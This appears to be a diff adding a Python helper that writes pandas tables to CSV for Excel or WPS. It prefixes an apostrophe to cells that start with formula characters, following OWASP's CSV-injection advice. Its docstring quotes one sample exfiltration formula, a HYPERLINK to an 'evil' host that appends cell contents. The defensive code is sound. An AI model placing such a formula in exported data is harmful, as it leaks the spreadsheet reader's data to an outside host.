@@ -1,0 +1,29 @@
+"""Tables leaving the app as files a clerk opens in Excel or WPS.
+
+A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read there as a
+formula: text a user typed (`=HYPERLINK("http://evil/?"&A1,"点此")`) would run on the
+reader's PC. Such cells get a leading apostrophe, which the spreadsheet shows as text
+(OWASP's advice on CSV injection)."""
+
+from __future__ import annotations
+
+import io
+
+import pandas as pd
+
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutral(value):
+    if isinstance(value, str) and value.startswith(_FORMULA_START):
+        return "'" + value
+    return value
+
+
+def to_csv(frame: pd.DataFrame) -> bytes:
+    """UTF-8 with a byte-order mark, so Excel on a Chinese Windows opens it correctly. Lines
+    end in CRLF, as Excel writes them; it also makes the writer quote a cell holding a lone
+    CR, which would otherwise split the row."""
+    buf = io.StringIO()
+    frame.map(neutral).to_csv(buf, index=False, lineterminator="\r\n")
+    return buf.getvalue().encode("utf-8-sig")
